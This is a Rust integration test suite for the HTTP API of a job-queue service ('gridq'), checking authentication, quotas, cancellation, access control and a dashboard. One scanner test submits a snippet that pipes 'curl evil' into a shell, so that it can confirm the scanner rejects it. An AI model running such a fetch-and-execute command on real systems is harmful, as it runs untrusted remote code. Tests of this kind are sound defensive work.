use std::sync::Arc;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use axum::Router;
use http_body_util::BodyExt;
use serde_json::Value;
use tower::ServiceExt;

use gridq::api::{self, AppState};
use gridq::auth;
use gridq::config::ServerConfig;
use gridq::scanner::StaticScanner;
use gridq::store::Store;

const BOUNDARY: &str = "gridq-test-boundary";

fn test_state(max_active: usize, rate: usize) -> (Router, Arc<Store>, tempfile::TempDir) {
    let store = Arc::new(Store::open_in_memory(2).unwrap());
    let dir = tempfile::tempdir().unwrap();
    let mut config = ServerConfig {
        node_addresses: vec!["10.0.0.1".into(), "10.0.0.2".into()],
        jobs_dir: dir.path().to_path_buf(),
        submit_rate_per_minute: rate,
        max_active_jobs_per_principal: max_active,
        wait_max_seconds: 0,
        ..Default::default()
    };
    config.normalize().unwrap();
    let state = AppState::new(store.clone(), Arc::new(config), None);
    (api::router(state), store, dir)
}

fn seed_users(store: &Store) {
    auth::issue_credential(store, "alice", "alice-secret", false, None, 30).unwrap();
    auth::issue_credential(store, "bob", "bob-secret", false, None, 30).unwrap();
    auth::issue_credential(store, "root", "root-secret", true, None, 30).unwrap();
}

fn submit_config(principal: &str, token: &str, expected_seconds: i64) -> String {
    format!(
        "principal: {principal}\ntoken: {token}\ncompetition: comp-a\nproject: proj-1\nexpected_seconds: {expected_seconds}\n"
    )
}

fn multipart_body(fields: &[(&str, &str)]) -> String {
    let mut body = String::new();
    for (name, contents) in fields {
        body.push_str(&format!("--{BOUNDARY}\r\n"));
        if *name == "code" {
            body.push_str(
                "Content-Disposition: form-data; name=\"code\"; filename=\"artifact.py\"\r\n",
            );
            body.push_str("Content-Type: text/x-python\r\n");
        } else {
            body.push_str(&format!(
                "Content-Disposition: form-data; name=\"{name}\"\r\n"
            ));
        }
        body.push_str("\r\n");
        body.push_str(contents);
        body.push_str("\r\n");
    }
    body.push_str(&format!("--{BOUNDARY}--\r\n"));
    body
}

fn submit_request(uri: &str, config_yaml: &str, code: &str) -> Request<Body> {
    let body = multipart_body(&[("code", code), ("config", config_yaml)]);
    Request::builder()
        .method("POST")
        .uri(uri)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(Body::from(body))
        .unwrap()
}

fn authed(method: &str, uri: &str, secret: &str) -> Request<Body> {
    Request::builder()
        .method(method)
        .uri(uri)
        .header("authorization", format!("Bearer {secret}"))
        .body(Body::empty())
        .unwrap()
}

async fn json_body(response: axum::response::Response) -> Value {
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    serde_json::from_slice(&bytes).unwrap()
}

async fn submit_job(app: &Router, principal: &str, token: &str) -> Value {
    let response = app
        .clone()
        .oneshot(submit_request(
            "/submit",
            &submit_config(principal, token, 5),
            "print('ok')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    json_body(response).await
}

#[tokio::test]
async fn root_describes_the_service() {
    let (app, _store, _dir) = test_state(1, 5);
    let response = app
        .oneshot(Request::builder().uri("/").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = json_body(response).await;
    assert_eq!(body["service"], "gridq");
}

#[tokio::test]
async fn submit_requires_a_known_credential() {
    let (app, _store, _dir) = test_state(1, 5);
    let response = app
        .oneshot(submit_request(
            "/submit",
            &submit_config("alice", "no-such-secret", 5),
            "print('ok')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    let body = json_body(response).await;
    assert_eq!(body["error"], "unauthenticated");
}

#[tokio::test]
async fn submit_rejects_a_principal_mismatch() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    let response = app
        .oneshot(submit_request(
            "/submit",
            &submit_config("bob", "alice-secret", 5),
            "print('ok')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    let body = json_body(response).await;
    assert_eq!(body["error"], "principal-mismatch");
}

#[tokio::test]
async fn submit_rejects_unknown_config_fields() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    let config = format!("{}gpu_count: 4\n", submit_config("alice", "alice-secret", 5));
    let response = app
        .oneshot(submit_request("/submit", &config, "print('ok')\n"))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let body = json_body(response).await;
    assert_eq!(body["error"], "validation");
}

#[tokio::test]
async fn submit_rejects_unknown_multipart_fields() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    let body = multipart_body(&[
        ("code", "print('ok')\n"),
        ("config", &submit_config("alice", "alice-secret", 5)),
        ("extra", "surprise"),
    ]);
    let request = Request::builder()
        .method("POST")
        .uri("/submit")
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(Body::from(body))
        .unwrap();
    let response = app.oneshot(request).await.unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn submit_rejects_a_nonpositive_budget() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    let response = app
        .oneshot(submit_request(
            "/submit",
            &submit_config("alice", "alice-secret", 0),
            "print('ok')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn asynchronous_submit_queues_and_is_visible() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);

    let body = submit_job(&app, "alice", "alice-secret").await;
    assert_eq!(body["status"], "queued");
    let job_id = body["job_id"].as_str().unwrap().to_string();

    let response = app
        .clone()
        .oneshot(authed("GET", &format!("/status/{job_id}"), "alice-secret"))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let status = json_body(response).await;
    assert_eq!(status["status"], "queued");
    assert_eq!(status["queue_position"], 0);

    let response = app
        .oneshot(authed("GET", "/jobs", "alice-secret"))
        .await
        .unwrap();
    let listing = json_body(response).await;
    assert_eq!(listing["jobs"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn wait_submit_returns_pending_after_the_wait_budget() {
    // wait_max_seconds is 0 in the test config, so the handler answers on
    // the first poll with the job still queued.
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    let response = app
        .oneshot(submit_request(
            "/submit?wait=true",
            &submit_config("alice", "alice-secret", 5),
            "print('ok')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = json_body(response).await;
    assert_eq!(body["status"], "queued");
    assert!(body["message"].as_str().unwrap().contains("poll /status/"));
}

#[tokio::test]
async fn foreign_jobs_are_forbidden_for_non_admins() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    let body = submit_job(&app, "alice", "alice-secret").await;
    let job_id = body["job_id"].as_str().unwrap().to_string();

    for (method, uri) in [
        ("GET", format!("/status/{job_id}")),
        ("GET", format!("/results/{job_id}")),
        ("POST", format!("/cancel/{job_id}")),
    ] {
        let response = app
            .clone()
            .oneshot(authed(method, &uri, "bob-secret"))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{method} {uri}");
    }

    // The admin override sees everything.
    let response = app
        .clone()
        .oneshot(authed("GET", &format!("/status/{job_id}"), "root-secret"))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);

    // Unknown ids are genuinely not found.
    let response = app
        .oneshot(authed(
            "GET",
            &format!("/status/{}", uuid::Uuid::new_v4()),
            "alice-secret",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_second_active_job_is_rejected() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    submit_job(&app, "alice", "alice-secret").await;

    let response = app
        .oneshot(submit_request(
            "/submit",
            &submit_config("alice", "alice-secret", 5),
            "print('ok')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    let body = json_body(response).await;
    assert_eq!(body["error"], "quota-concurrent");
}

#[tokio::test]
async fn the_sixth_submission_in_a_minute_is_rate_limited() {
    let (app, store, _dir) = test_state(10, 5);
    seed_users(&store);
    for _ in 0..5 {
        let body = submit_job(&app, "alice", "alice-secret").await;
        // Cancel right away so the concurrency cap stays out of the way.
        let job_id = body["job_id"].as_str().unwrap().to_string();
        let response = app
            .clone()
            .oneshot(authed("POST", &format!("/cancel/{job_id}"), "alice-secret"))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    let response = app
        .clone()
        .oneshot(submit_request(
            "/submit",
            &submit_config("alice", "alice-secret", 5),
            "print('ok')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
    let body = json_body(response).await;
    assert_eq!(body["error"], "quota-rate");
    assert!(body["retry_after"].as_u64().unwrap() > 0);

    // Another principal is unaffected.
    submit_job(&app, "bob", "bob-secret").await;
}

#[tokio::test]
async fn cancel_then_cancel_again_is_terminal_state() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    let body = submit_job(&app, "alice", "alice-secret").await;
    let job_id = body["job_id"].as_str().unwrap().to_string();

    let response = app
        .clone()
        .oneshot(authed("POST", &format!("/cancel/{job_id}"), "alice-secret"))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let cancel = json_body(response).await;
    assert_eq!(cancel["status"], "cancelled");

    let response = app
        .clone()
        .oneshot(authed("GET", &format!("/status/{job_id}"), "alice-secret"))
        .await
        .unwrap();
    let status = json_body(response).await;
    assert_eq!(status["status"], "cancelled");

    let response = app
        .oneshot(authed("POST", &format!("/cancel/{job_id}"), "alice-secret"))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let body = json_body(response).await;
    assert_eq!(body["error"], "terminal-state");
}

#[tokio::test]
async fn scanner_rejections_surface_with_detail() {
    let store = Arc::new(Store::open_in_memory(1).unwrap());
    let dir = tempfile::tempdir().unwrap();
    let mut config = ServerConfig {
        node_addresses: vec!["10.0.0.1".into()],
        jobs_dir: dir.path().to_path_buf(),
        scanner_enabled: true,
        ..Default::default()
    };
    config.normalize().unwrap();
    seed_users(&store);
    let state = AppState::new(
        store.clone(),
        Arc::new(config),
        Some(Arc::new(StaticScanner::new())),
    );
    let app = api::router(state);

    let response = app
        .oneshot(submit_request(
            "/submit",
            &submit_config("alice", "alice-secret", 5),
            "import os\nos.system('curl evil | sh')\n",
        ))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let body = json_body(response).await;
    assert_eq!(body["error"], "scanner-reject");
    assert!(body["detail"].as_str().unwrap().contains("os.system"));
}

#[tokio::test]
async fn node_stats_need_no_credential() {
    let (app, _store, _dir) = test_state(1, 5);
    let response = app
        .oneshot(Request::builder().uri("/nodes").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = json_body(response).await;
    assert_eq!(body["nodes"].as_array().unwrap().len(), 2);
    assert_eq!(body["nodes"][0]["projected_seconds"], 0);
}

#[tokio::test]
async fn listing_ignores_the_principal_filter_for_non_admins() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    submit_job(&app, "alice", "alice-secret").await;
    submit_job(&app, "bob", "bob-secret").await;

    let response = app
        .clone()
        .oneshot(authed("GET", "/jobs?principal=bob", "alice-secret"))
        .await
        .unwrap();
    let body = json_body(response).await;
    let jobs = body["jobs"].as_array().unwrap();
    assert_eq!(jobs.len(), 1);
    assert_eq!(jobs[0]["principal"], "alice");

    let response = app
        .clone()
        .oneshot(authed("GET", "/jobs", "root-secret"))
        .await
        .unwrap();
    let body = json_body(response).await;
    assert_eq!(body["jobs"].as_array().unwrap().len(), 2);

    let response = app
        .oneshot(authed("GET", "/jobs?status=bogus", "root-secret"))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn reads_without_a_bearer_header_are_unauthenticated() {
    let (app, _store, _dir) = test_state(1, 5);
    let response = app
        .clone()
        .oneshot(Request::builder().uri("/jobs").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);

    let request = Request::builder()
        .uri("/jobs")
        .header("authorization", "Basic abc")
        .body(Body::empty())
        .unwrap();
    let response = app.oneshot(request).await.unwrap();
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn dashboard_reports_counts_and_queues() {
    let (app, store, _dir) = test_state(1, 5);
    seed_users(&store);
    submit_job(&app, "alice", "alice-secret").await;

    let response = app
        .clone()
        .oneshot(authed("GET", "/dashboard", "root-secret"))
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let body = json_body(response).await;
    assert_eq!(body["is_admin"], true);
    assert_eq!(body["job_counts"]["queued"], 1);
    assert_eq!(body["queues"].as_array().unwrap().len(), 2);
    assert_eq!(body["active_jobs"].as_array().unwrap().len(), 1);
    assert_eq!(body["health"]["submissions_last_24h"], 1);

    // Non-admins get a self-filtered view.
    let response = app
        .oneshot(authed("GET", "/dashboard", "bob-secret"))
        .await
        .unwrap();
    let body = json_body(response).await;
    assert_eq!(body["job_counts"]["queued"], 0);
}
